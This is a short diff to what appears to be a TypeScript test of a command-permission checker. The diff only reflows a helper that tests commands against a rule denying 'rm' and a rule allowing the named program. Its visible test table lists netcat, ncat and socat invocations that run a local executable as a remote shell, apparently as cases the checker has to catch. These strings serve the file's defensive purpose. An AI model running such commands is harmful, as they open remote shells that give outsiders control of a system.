@@ -5,10 +5,8 @@ import { rule, run } from './requests.js';
 
 /** A rule allows the program by its name, and another denies what it may start. */
 const decided = (text: string, program = text.split(' ')[0] ?? '') =>
-	decide(run(text), {
-		mode: 'default',
-		rules: [rule('Execute(rm *)', 'deny'), rule(`Execute(${program} *)`)],
-	}).decision;
+	decide(run(text), { mode: 'default', rules: [rule('Execute(rm *)', 'deny'), rule(`Execute(${program} *)`)] })
+		.decision;
 
 test.each(lines`
 	nc -e ./x host 1 ¦ ncat --sh-exec ./x host ¦ ncat --lua-exec x host ¦ socat - EXEC:./x
